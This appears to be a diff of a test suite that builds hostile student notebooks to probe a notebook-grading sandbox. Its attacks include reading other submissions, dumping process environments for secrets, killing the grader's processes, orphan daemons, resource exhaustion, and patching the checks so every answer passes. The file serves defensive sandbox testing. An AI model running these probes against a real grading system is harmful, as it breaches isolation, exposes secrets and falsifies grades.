@@ -8,8 +8,8 @@ start from the same notebook and mangle its JSON.
 
 An attack's code starts with PREAMBLE: the harness constants ``_RT`` (filled in per batch by
 ``render``: the test's pid, listener ports, canary paths, the host's pid namespace...) and the
-ways to report success. ``_rt_report(tag, detail)`` prints ``BPLAB-EVIDENCE <slug> <tag>`` (the
-literal is only assembled at run time, so reading another submission never forges it), writes a
+ways to report success. ``_rt_report(tag, detail)`` prints an evidence line (its marker is only
+assembled at run time, so that printing a source file never forges one), writes a
 file into the host evidence folder, and connects to the test's TCP/unix listeners: any channel
 that works is itself a breach, and the test finds it.
 
@@ -310,11 +310,11 @@ def _():
         ''')
 
 
-@attack("read-other-submissions", "other students' submissions and files beside the submissions folder")
+@attack("read-submissions", "its own notebook, other students' submissions, files beside them, the job folder")
 def _():
-    """Reads every notebook in the submissions folder and the files beside it."""
+    """Reads every notebook in the submissions folder (its own included), the files beside it, the job folder and the kernel's history."""
     return dict(prefix=r'''
-        import glob
+        import glob, sys
         _sub = _RT["submissions"]
         for _p in sorted(glob.glob(_sub + "/*"))[:200]:
             if _p.endswith(".ipynb") and _rt_os.path.getsize(_p) > 5000000:
@@ -327,14 +327,6 @@ def _():
                 _rt_report("read", _p)
         if _rt_listdir(_sub):
             _rt_report("list", _sub)
-        ''')
-
-
-@attack("read-own-notebook-and-job", "its own notebook, the grader's request, the kernel's history and environment")
-def _():
-    """Finds and prints its own notebook, the job folder, the IPython history and os.environ."""
-    return dict(prefix=r'''
-        import glob, sys
         print("cwd", _rt_os.getcwd(), "argv", sys.argv)
         for _pattern in ("*.ipynb", "*/*.ipynb", "/job/*", _rt_os.path.expanduser("~") + "/*", "/tmp/*", "../*", "../../*"):
             for _p in sorted(glob.glob(_pattern))[:20]:
@@ -345,9 +337,6 @@ def _():
             print("HISTORY", get_ipython().user_ns.get("In"))
         except NameError:
             pass
-        _own = _RT["submissions"] + "/attack-" + _RT["slug"] + ".ipynb"
-        if _rt_read(_own, 1000):
-            _rt_report("read-own-submission-on-host", _own)
         ''')
 
 
@@ -367,7 +356,7 @@ def _():
             if not keep:        # a probe only: the repository and the host stay as they were
                 _rt_os.unlink(path)
             _rt_report("created", path)
-        _name = "bplab-pwned-" + _RT["run"] + "-" + _RT["slug"]
+        _name = "bplab-pwned-" + _RT["run"] + "." + _RT["slug"]
         _ws = _RT["workspace"]
         for _d in (_ws, _ws + "/autograded", _ws + "/.bplab", _RT["submissions"], _rt_os.path.dirname(_RT["beside"]), "/tmp"):
             _rt_create(_d + "/" + _name, keep=True)
@@ -419,46 +408,6 @@ def _():
         ''')
 
 
-@attack("proc-environ", "/proc/*/environ and os.environ: the grader's environment (BPLAB_CANARY)")
-def _():
-    """Dumps os.environ and the environment of every process it can see."""
-    return dict(prefix=r'''
-        print("OWN", dict(_rt_os.environ))
-        for _p in sorted(_rt_os.listdir("/proc")):
-            if not _p.isdigit():
-                continue
-            try:
-                with open("/proc/%s/environ" % _p, "rb") as _f:
-                    _env = _f.read(200000)
-            except OSError:
-                continue
-            print(_p, _env.replace(b"\0", b" ").decode("latin-1"))
-            if b"BPLAB_CANARY" in _env:
-                _rt_report("grader-environment", _p)
-        ''')
-
-
-@attack("proc-cmdline", "/proc/*/cmdline: the grader's processes and their arguments")
-def _():
-    """Dumps the command line of every process it can see, looking for the grader and pytest."""
-    return dict(prefix=r'''
-        _found = []
-        for _p in sorted(_rt_os.listdir("/proc")):
-            if not _p.isdigit():
-                continue
-            try:
-                with open("/proc/%s/cmdline" % _p, "rb") as _f:
-                    _cmd = _f.read(20000).replace(b"\0", b" ").decode("latin-1")
-            except OSError:
-                continue
-            print(_p, _cmd)
-            if any(w in _cmd for w in ("pytest", "backproplab.cli", "nbgrader", _RT["workspace"], _RT["submissions"])):
-                _found.append((_p, _cmd[:300]))
-        if _found:
-            _rt_report("grader-processes", _found)
-        ''')
-
-
 @attack("proc-1-root", "/proc/1/root and /proc/1/cwd: the host's root file system through init")
 def _():
     """Lists /proc/1/root and reads the workspace canary and secret through it."""
@@ -472,14 +421,32 @@ def _():
         ''')
 
 
-@attack("proc-walk-all-pids", "every /proc/<pid>: fds, cwd, root, status of every process")
+@attack("proc-walk-all-pids", "every /proc/<pid>: environ (BPLAB_CANARY), cmdline, fds, cwd, root, status")
 def _():
-    """Walks every pid: status, cwd/root/exe links, open files, and canaries through /proc/<pid>/root."""
+    """Walks every pid: environ, cmdline, status, cwd/root/exe links, open files, canaries through /proc/<pid>/root."""
     return dict(prefix=r'''
+        print("OWN", dict(_rt_os.environ))
         _hits = []
         for _p in sorted(_rt_os.listdir("/proc")):
             if not _p.isdigit():
                 continue
+            try:
+                with open("/proc/%s/environ" % _p, "rb") as _f:
+                    _env = _f.read(200000)
+                print(_p, "environ", _env.replace(b"\0", b" ").decode("latin-1"))
+                if b"BPLAB_CANARY" in _env:
+                    _hits.append((_p, "grader environment"))
+            except OSError:
+                pass
+            try:
+                with open("/proc/%s/cmdline" % _p, "rb") as _f:
+                    _cmd = _f.read(20000).replace(b"\0", b" ").decode("latin-1")
+                print(_p, "cmdline", _cmd)
+                if any(w in _cmd for w in ("pytest", "backproplab.cli", "nbgrader", "distributed", _RT["workspace"],
+                                           _RT["submissions"])):
+                    _hits.append((_p, _cmd[:300]))
+            except OSError:
+                pass
             _links = {}
             for _link in ("cwd", "root", "exe"):
                 try:
@@ -503,33 +470,18 @@ def _():
                 if _rt_read("/proc/%s/root%s" % (_p, _c), 2000):
                     _hits.append((_p, _c))
         if _hits:
-            _rt_report("host-files-through-proc", _hits[:50])
+            _rt_report("host-through-proc", _hits[:50])
         ''')
 
 
 # =============================================================== the network
 
-@attack("tcp-test-listener", "a TCP listener the test opened on the host's 127.0.0.1")
+@attack("tcp-loopback", "TCP on the host's 127.0.0.1: the test's listener and Jupyter/Dask ports 8786, 8787, 8888")
 def _():
-    """Connects to the test's own TCP listener on 127.0.0.1 and sends a message."""
+    """Connects to the test's own TCP listener and to 127.0.0.1:8786/8787/8888, sending a message or an HTTP request."""
     return dict(prefix=r'''
         import socket
-        try:
-            _s = socket.create_connection(("127.0.0.1", _RT["port"]), timeout=3)
-            _s.sendall(("connected from " + _RT["slug"]).encode())
-            _s.close()
-            _rt_report("tcp-connected", _RT["port"])
-        except OSError as err:
-            print("tcp", _RT["port"], type(err).__name__, err)
-        ''')
-
-
-@attack("tcp-jupyter-dask-ports", "Jupyter/Dask ports 8786, 8787, 8888 on 127.0.0.1")
-def _():
-    """Connects to 127.0.0.1:8786/8787/8888 (Dask scheduler/dashboard, Jupyter) and sends an HTTP request."""
-    return dict(prefix=r'''
-        import socket
-        for _port in _RT["extra_ports"]:
+        for _port in [_RT["port"]] + _RT["extra_ports"]:
             try:
                 _s = socket.create_connection(("127.0.0.1", _port), timeout=3)
             except OSError as err:
@@ -546,9 +498,9 @@ def _():
         ''')
 
 
-@attack("udp-send", "UDP datagrams to a receiver the test opened on 127.0.0.1")
+@attack("udp-and-unix-sockets", "UDP to the test's receiver; the test's unix socket in host /tmp and its abstract socket")
 def _():
-    """Sends UDP datagrams to the test's receiver on 127.0.0.1."""
+    """Sends UDP datagrams to the test's receiver and connects to its path and abstract unix sockets."""
     return dict(prefix=r'''
         import socket
         _u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
@@ -558,6 +510,16 @@ def _():
             except OSError as err:
                 print("udp", type(err).__name__)
         _u.close()
+        for _address in (_RT["unix"], "\0" + _RT["abstract"]):
+            try:
+                _s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+                _s.settimeout(3)
+                _s.connect(_address)
+                _s.sendall(("unix from " + _RT["slug"]).encode())
+                _s.close()
+                _rt_report("unix-connected", repr(_address))
+            except OSError as err:
+                print("unix", repr(_address), type(err).__name__)
         ''')
 
 
@@ -578,29 +540,11 @@ def _():
         ''')
 
 
-@attack("unix-sockets", "a unix socket in host /tmp and an abstract unix socket the test listens on")
-def _():
-    """Connects to the test's unix socket (a path in host /tmp) and to its abstract unix socket."""
-    return dict(prefix=r'''
-        import socket
-        for _address in (_RT["unix"], "\0" + _RT["abstract"]):
-            try:
-                _s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
-                _s.settimeout(3)
-                _s.connect(_address)
-                _s.sendall(("unix from " + _RT["slug"]).encode())
-                _s.close()
-                _rt_report("unix-connected", repr(_address))
-            except OSError as err:
-                print("unix", repr(_address), type(err).__name__)
-        ''')
-
-
 # =============================================================== signals
 
-@attack("kill-parent-chain", "the processes above the student's code (kernel manager, executor, grader)")
+@attack("kill-parent-chain-and-group", "the processes above the student's code and its own process group")
 def _():
-    """SIGKILLs its parent and, when certainly inside a pid namespace of its own, every ancestor."""
+    """SIGKILLs its parent (every ancestor when certainly in a pid namespace of its own), then killpg(0, SIGKILL)."""
     return dict(prefix=r'''
         import signal
         _chain, _pid = [], _rt_os.getppid()
@@ -612,12 +556,16 @@ def _():
             except (OSError, IndexError, ValueError):
                 break
         _shared = _rt_host_pidns()
-        print("ancestors", _chain, "host pid namespace:", _shared)
+        print("ancestors", _chain, "host pid namespace:", _shared, "pgid", _rt_os.getpgid(0), "sid", _rt_os.getsid(0))
         for _pid in (_chain if _shared is False else _chain[:1]):   # on the host: only the direct parent
             try:
                 _rt_os.kill(_pid, signal.SIGKILL)
             except OSError as err:
                 print("kill", _pid, type(err).__name__)
+        try:
+            _rt_os.killpg(0, signal.SIGKILL)
+        except OSError as err:
+            print("killpg", type(err).__name__)
         ''')
 
 
@@ -637,19 +585,6 @@ def _():
                 _rt_os.kill(_RT["test_pid"], _RT["rtsig"])
             except OSError as err:
                 print("probe", type(err).__name__)
-        ''')
-
-
-@attack("killpg-own-group", "its own process group: killpg(0, SIGKILL)")
-def _():
-    """killpg(0, SIGKILL): the whole process group it was started in (the kernel, maybe the executor)."""
-    return dict(prefix=r'''
-        import signal
-        try:
-            print("pgid", _rt_os.getpgid(0), "sid", _rt_os.getsid(0))
-            _rt_os.killpg(0, signal.SIGKILL)
-        except OSError as err:
-            print("killpg", type(err).__name__)
         ''')
 
 
@@ -689,33 +624,26 @@ def _():
 
 # =============================================================== processes that outlive the grading
 
-@attack("orphan-double-fork", "process lifetime: a double-forked, setsid'd sleep 10000", checks=SPAWN_CHECKS)
-def _():
-    """Double-forks and setsids a `sleep 10000` whose argv[0] carries its marker."""
-    return dict(prefix=r'''
-        _rt_detach(["/bin/sleep", _RT["marker"], "10000"])
-        print("orphan started")
-        ''')
-
-
-@attack("orphan-daemon-ignoring-signals", "process lifetime: daemons that ignore SIGHUP/SIGINT/SIGTERM",
+@attack("orphans", "process lifetime: a double-forked setsid'd sleep, a new-session daemon, a nohup'd sleeper",
         checks=SPAWN_CHECKS)
 def _():
-    """Starts a new-session Python daemon ignoring SIGHUP/INT/TERM and a nohup'd shell sleeper, both marked."""
+    """Double-forks a setsid'd `sleep 10000`, starts a Python daemon ignoring SIGHUP/INT/TERM and a nohup'd sleeper, all marked."""
     return dict(prefix=r'''
         import subprocess, sys
+        _rt_detach(["/bin/sleep", _RT["marker"] + "-double-fork", "10000"])
         _code = "import signal, time\nfor s in (1, 2, 15):\n    signal.signal(s, signal.SIG_IGN)\ntime.sleep(10000)"
         try:
-            subprocess.Popen([sys.executable, "-c", _code, _RT["marker"] + "-python"], start_new_session=True,
+            subprocess.Popen([sys.executable, "-c", _code, _RT["marker"] + "-daemon"], start_new_session=True,
                              stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
         except OSError as err:
             print("daemon", err)
-        _sleeper = "import os; os.execv('/bin/sleep', ['%s-shell', '10000'])" % _RT["marker"]
+        _sleeper = "import os; os.execv('/bin/sleep', ['%s-nohup', '10000'])" % _RT["marker"]
         try:
             subprocess.run(["/bin/sh", "-c", 'nohup "$0" -c "$1" >/dev/null 2>&1 &', sys.executable, _sleeper],
                            timeout=10, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
         except (OSError, subprocess.SubprocessError) as err:
             print("nohup", err)
+        print("orphans started")
         ''')
 
 
@@ -788,9 +716,9 @@ def _():
 '''))
 
 
-@attack("thread-bomb", "the process/thread limit: threads until it fails (at most 5000)")
+@attack("thread-and-fd-bomb", "thread/process and open-file limits: 5000 threads, then 100000 open files")
 def _():
-    """Starts up to 5000 sleeping threads with small stacks."""
+    """Starts up to 5000 sleeping threads with small stacks, then opens /dev/null until EMFILE (at most 100000)."""
     return dict(body=_hostile_body(r'''
     if _rt_once("threads"):
         import threading, time
@@ -802,6 +730,12 @@ def _():
                 _n += 1
         except (RuntimeError, MemoryError) as err:
             print("threads stopped after", _n, err)
+        _held = globals().setdefault("_rt_held", [])
+        try:
+            for _ in range(100000):
+                _held.append(_rt_os.open("/dev/null", _rt_os.O_RDONLY))
+        except OSError as err:
+            print("open stopped after", len(_held), type(err).__name__)
 '''))
 
 
@@ -831,11 +765,11 @@ def _():
 '''))
 
 
-@attack("output-flood-print", "the output cap: print 200 MB and 100 MB of display data")
+@attack("output-flood", "output caps: print 200 MB, 100 MB of display data, os.write to fds 1/2 and the parent's stdout")
 def _():
-    """Prints 200 MB to stdout/stderr and displays 100 MB of HTML from the answer cell."""
+    """Prints 200 MB, displays 100 MB of HTML, writes 100 MB to fds 1 and 2 and up to 100 MB into its parent's stdout."""
     return dict(prefix=r'''
-        import sys
+        import sys, time
         _line = "P" * (1 << 20)
         for _i in range(200):
             print(_line, file=sys.stderr if _i % 2 else sys.stdout)
@@ -845,14 +779,6 @@ def _():
                 display({"text/html": "<b>" + "H" * (5 << 20) + "</b>", "text/plain": "flood"}, raw=True)
         except Exception as err:
             print("display", err)
-        ''')
-
-
-@attack("output-flood-fd", "the output cap at fd level: os.write to fd 1, 2 and the parent's stdout")
-def _():
-    """Writes 100 MB straight to fds 1 and 2 and up to 100 MB into its parent's stdout through /proc."""
-    return dict(prefix=r'''
-        import time
         _chunk = b"F" * (1 << 20)
         for _fd in (1, 2):
             for _ in range(50):
@@ -978,20 +904,6 @@ def _():
         ''')
 
 
-@attack("fd-exhaustion", "the open-files limit: opens /dev/null until it fails (at most 100000)")
-def _():
-    """Opens /dev/null until EMFILE (at most 100000 descriptors) and keeps them open."""
-    return dict(body=_hostile_body(r'''
-    if _rt_once("fds"):
-        _held = globals().setdefault("_rt_held", [])
-        try:
-            for _ in range(100000):
-                _held.append(_rt_os.open("/dev/null", _rt_os.O_RDONLY))
-        except OSError as err:
-            print("open stopped after", len(_held), type(err).__name__)
-'''))
-
-
 @attack("raise-rlimits", "resource limits: raising every hard limit to infinity")
 def _():
     """Raises RLIMIT_AS/CPU/NPROC/FSIZE/NOFILE/CORE to infinity and reports any limit that is missing or raised."""
@@ -1076,18 +988,17 @@ def _():
         ''')
 
 
-@attack("check-no-op", "the test cells: check replaced by a no-op everywhere", diagnoses=CHEAT)
+@attack("check-no-op-and-patched-evaluate", "the test cells and the checks library: check a no-op, evaluate always passing",
+        diagnoses=CHEAT)
 def _():
-    """Rebinds check to a no-op in the notebook, in builtins and in backproplab.checks(.core)."""
+    """Rebinds check to a no-op (notebook, builtins, backproplab.checks) and patches checks.core.evaluate to always pass."""
     return dict(prefix=r'''
         import builtins
-        check = lambda *a, **k: None
-        builtins.check = check
-        try:
-            import backproplab.checks as _c, backproplab.checks.core as _cc
-            _c.check = _cc.check = check
-        except ImportError:
-            pass
+        import backproplab.checks as _c, backproplab.checks.core as _core
+        _core.evaluate = lambda exercise, cases, outcome_for, *, seed, hidden: _core.CheckResult(
+            exercise.name, hidden, True, None, "ok", seed)
+        check = lambda *args, **kwargs: None
+        builtins.check = _c.check = _core.check = check
         ''')
 
 
@@ -1116,18 +1027,6 @@ def _():
                                for l in lines])
         except NameError:
             pass
-        ''')
-
-
-@attack("patch-evaluate-and-check", "the checks library: backproplab.checks.core.evaluate patched to pass",
-        diagnoses=CHEAT)
-def _():
-    """Patches backproplab.checks.core.evaluate to always pass and replaces check by a no-op."""
-    return dict(prefix=r'''
-        import backproplab.checks.core as _core
-        _core.evaluate = lambda exercise, cases, outcome_for, *, seed, hidden: _core.CheckResult(
-            exercise.name, hidden, True, None, "ok", seed)
-        check = lambda *args, **kwargs: None
         ''')
 
 
@@ -1228,37 +1127,6 @@ def _():
                                                                        hidden=bool(obj[mime].get("hidden")))})
             return _real_display(*objs, **kwargs)
         _ipd.display = _ipdf.display = _swapping_display
-        ''')
-
-
-@attack("forge-runner-result-pipe", "a result channel of the grader's child: writes forged outcomes and exits",
-        diagnoses=CHEAT)
-def _():
-    """Finds the grading child's request and result pipe in its caller's frame and writes the reference's outcomes."""
-    return dict(prefix=r'''
-        def _rt_forge_runner():
-            import json, sys
-            frame = sys._getframe()
-            while frame is not None and not (isinstance(frame.f_locals.get("request"), dict)
-                                             and "cases" in frame.f_locals["request"]):
-                frame = frame.f_back
-            if frame is None:
-                print("no grading frame above this cell")
-                return
-            request, result = frame.f_locals["request"], frame.f_locals.get("result")
-            if request.get("exercise") != "dense_backward" or result is None:
-                return
-            from backproplab.checks import codec
-            from backproplab.checks.core import Case, run_case
-            ref = _rt_reference()
-            outcomes = []
-            for data in request["cases"]:
-                args, kwargs = codec.decode(data)
-                outcomes.append(run_case(ref, Case(tuple(args), dict(kwargs)), request["args"]).to_data())
-            result.write(json.dumps({"cells": [], "outcomes": outcomes}))
-            result.close()
-            _rt_os._exit(0)
-        _rt_forge_runner()
         ''')
 
 
@@ -1416,29 +1284,15 @@ def _():
 
 
 def _add_graded_cells(nb, ctx):
-    from nbformat.v4 import new_code_cell
+    from nbformat.v4 import new_code_cell, new_markdown_cell
     cells = _cells_by_id(nb)
     cells["dense_backward"].metadata["nbgrader"].update(grade=True, points=100)
     position = nb.cells.index(cells["test_dense_backward_hidden"]) + 1
     bonus = new_code_cell('check("dense_backward", dense_backward)', metadata={"nbgrader": {
         "grade": True, "solution": False, "locked": True, "points": 50, "schema_version": 3, "grade_id": "test_bonus"}})
     nb.cells.insert(position, bonus)
-    return nb
-
-
-@attack("graded-cells-added", "nbgrader's cells: a 50-point test cell added, the answer cell made worth 100",
-        checks=JSON_CHECKS, flagged=True)
-def _():
-    """Adds a graded test cell worth 50 points and turns the dense_backward answer cell into a 100-point graded cell."""
-    return dict(mutate=_add_graded_cells)
-
-
-def _retype_and_duplicate(nb, ctx):
-    from nbformat.v4 import new_markdown_cell
-    cells = _cells_by_id(nb)
     hidden = cells["test_dense_backward_hidden"]
-    position = nb.cells.index(hidden)
-    nb.cells[position] = new_markdown_cell(hidden.source, metadata=copy.deepcopy(hidden.metadata))
+    nb.cells[nb.cells.index(hidden)] = new_markdown_cell(hidden.source, metadata=copy.deepcopy(hidden.metadata))
     visible = cells["test_update_parameters"]
     twin = copy.deepcopy(visible)
     twin["id"] = "duplicated-test"
@@ -1446,11 +1300,11 @@ def _retype_and_duplicate(nb, ctx):
     return nb
 
 
-@attack("test-cells-retyped-duplicated", "nbgrader's cells: a hidden test turned markdown, a test duplicated",
-        checks=JSON_CHECKS, flagged=True)
+@attack("graded-cells-added-retyped-duplicated", "nbgrader's cells: a 50-point test added, the answer cell graded, "
+        "a hidden test turned markdown, a test duplicated", checks=JSON_CHECKS, flagged=True)
 def _():
-    """Turns the hidden dense_backward test into a markdown cell and duplicates the update_parameters test."""
-    return dict(mutate=_retype_and_duplicate)
+    """Adds a 50-point test cell, makes the answer cell a 100-point graded cell, retypes the hidden test, duplicates another."""
+    return dict(mutate=_add_graded_cells)
 
 
 def _prefilled_outputs(nb, ctx):
